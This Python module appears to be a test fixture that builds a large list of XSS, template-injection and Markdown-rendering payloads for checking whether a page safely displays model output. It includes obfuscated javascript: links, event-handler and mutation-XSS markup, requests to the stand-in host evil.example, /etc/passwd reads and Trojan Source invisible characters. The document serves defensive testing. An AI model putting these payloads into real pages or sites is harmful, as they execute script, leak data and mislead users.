"""Texts that would run, fetch, or deceive wherever a page forgot that a model's words are words (WEB-13). Made here, not collected.

Rule: each marks ``window.pwned`` or asks the host ``evil.example`` for something, so that a browser can tell whether it worked.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.pwned=1"
AWAY = "https://evil.example/x"

# The scheme in every spelling that some parser once let through.
_SCRIPT_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "java\rscript:",
    " javascript:",
    "\x01javascript:",
    "\x00javascript:",
    "javascript\t:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3a;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#0000106avascript:",
    "java&#9;script:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "\u00a0javascript:",
    "\ufeffjavascript:",
    "%6Aavascript:",
    "javascript%3A",
    "\\javascript:",
    "j\u0430vascript:",
    "\u202ejavascript:",
    "feed:javascript:",
    "view-source:javascript:",
    "vbscript:",
    "livescript:",
    "mocha:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=window.pwned=1>",
    "blob:",
    "filesystem:",
    "file:///etc/passwd#",
    "about:blank#",
    "//evil.example/",
    "\\\\evil.example/",
    "/\\evil.example/",
    "///evil.example/",
    "/sign-out?",
    "?next=",
    "#onload=",
    "ws://evil.example/",
    "ftp://evil.example/",
)
_LINKS = ("[click]({0}{1})", "[click](<{0}{1}>)", "<{0}{1}>", "![x]({0}{1})", '[c]({0}{1} "t")', "[r]\n\n[r]: {0}{1}")

_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerrawupdate",
    "onbegin",
    "onscroll",
    "oncontentvisibilityautostatechange",
    "onbeforetoggle",
    "onsecuritypolicyviolation",
)
_ELEMENTS = (
    "<img src=x {0}={1}>",
    "<svg {0}={1}>",
    "<body {0}={1}>",
    "<details open {0}={1}>",
    "<input autofocus {0}={1}>",
    '<video><source {0}="{1}">',
    "<a href=# {0}='{1}' style=animation-name:x>x</a>",
    "<x {0}={1} tabindex=1 id=x>",
    "<iframe srcdoc='<img src=x {0}=parent.{1}>'>",
)

_WHOLE = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={AWAY}></script>",
    f"<script\x0c>{RUN}</script>",
    f"<scr<script>ipt>{RUN}",
    f"<<script>{RUN}//<</script>",
    f"<script/x>{RUN}</script>",
    f"</p><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1'?><script>{RUN}</script>",
    f"<style>@import '{AWAY}';</style>",
    f"<style>*{{background:url({AWAY})}}</style>",
    f'<p style="background:url({AWAY})">x</p>',
    f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<form action={AWAY}><button>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<img src={AWAY}>",
    f"<img srcset='{AWAY} 1x'>",
    f"<picture><source srcset={AWAY}><img></picture>",
    f"<video poster={AWAY} src={AWAY}>",
    f"<audio src={AWAY}>",
    f"<input type=image src={AWAY}>",
    f"<table background={AWAY}><td>x",
    f"<body background={AWAY}>",
    f"<frameset><frame src={AWAY}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{RUN}'/></svg>",
    f"<svg><image href={AWAY}></svg>",
    f"<svg><use href='{AWAY}#x'></svg>",
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><set attributeName=onload to={RUN}></svg>",
    f"<svg><style>@import '{AWAY}'</style></svg>",
    f"<svg><discard onbegin={RUN}>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<select><style></select><svg onload={RUN}></style>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><svg onload={RUN}>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<iframe></iframe/x><img src=x onerror={RUN}>",
    f'<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed>',
    f"<dialog open><img src=x onerror={RUN}></dialog>",
    f"<div popover id=p><img src=x onerror={RUN}></div><button popovertarget=p>x",
    "<input id=attributes><input id=children name=nodeName>",
    "<form id=document><input name=cookie><input name=body>",
    "<a id=trustedTypes></a><a id=pwned href=x:1>",
    f"<marquee onstart={RUN}>x",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<keygen autofocus onfocus={RUN}>",
    # Templates of servers and of pages
    "{{7*7}}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "#{window.pwned=1}",
    "<%= window.pwned=1 %>",
    "{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "[[${window.pwned=1}]]",
    "{{_self.env.display('x')}}",
    "<div ng-app ng-init='window.pwned=1'>",
    "<div v-html=\"'<img src=x onerror=window.pwned=1>'\">",
    "<div x-data x-init='window.pwned=1'>",
    "<div hx-get='https://evil.example/x' hx-trigger=load>",
    '<div data-bind="text: window.pwned=1">',
    # Entities that become markup when they are read twice
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&lt&#59;svg onload={RUN}&gt&#59;",
    f"\\<script>{RUN}\\</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\ufe64script\ufe65{RUN}",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u02c2script\u02c3{RUN}",
)

# Places of Markdown that hold text of their own, each of which once forgot to escape something somewhere.
_PLACES = (
    "{0}",
    "`{0}`",
    "**{0}**",
    "# {0}",
    "- {0}",
    "1. {0}",
    "> {0}",
    "| {0} | b |\n|---|---|\n| {0} | {0} |",
    "```\n{0}\n```",
    "```{0}\nx\n```",
    "```html\n{0}\n```",
    "    {0}",
    "[{0}](https://a.example)",
    '[x](https://a.example "{0}")',
    "![{0}](https://a.example/i.png)",
    "![x](https://evil.example/{0})",
    "[x](https://a.example/{0})",
    "<https://a.example/{0}>",
    "~~{0}~~",
    "- [ ] {0}",
    "src/{0}.py:3",
    "`src/{0}.py:3`",
)
_SHORT = (
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}',
    f"javascript:{RUN}",
    f"</code></pre><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}>",
    f'" style="background:url({AWAY})',
)

# What turns the reading round, hides, or joins (Trojan Source, invisible tags)
_UNSEEN = tuple(
    f"access_level = 'user{char} // allow{char}' [l{char}ink](https://a.example/{char}) `git{char} push`"
    for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u2060\ufeff\u00ad\u115f\u3164\U000e0041\x07\x1b\x7f\x9b"
)


def payloads() -> list[str]:
    """Every payload once."""
    return list(dict.fromkeys(_every()))


def _every() -> Iterator[str]:
    for number, scheme in enumerate(_SCRIPT_SCHEMES):
        for link in (_LINKS[number % len(_LINKS)], _LINKS[0], _LINKS[3]):
            yield link.format(scheme, RUN)
    for number, (event, element) in enumerate(product(_EVENTS, _ELEMENTS)):
        if number % 2 == 0:
            yield element.format(event, RUN)
    yield from _WHOLE
    for place, short in product(_PLACES, _SHORT):
        yield place.format(short)
    yield from _UNSEEN
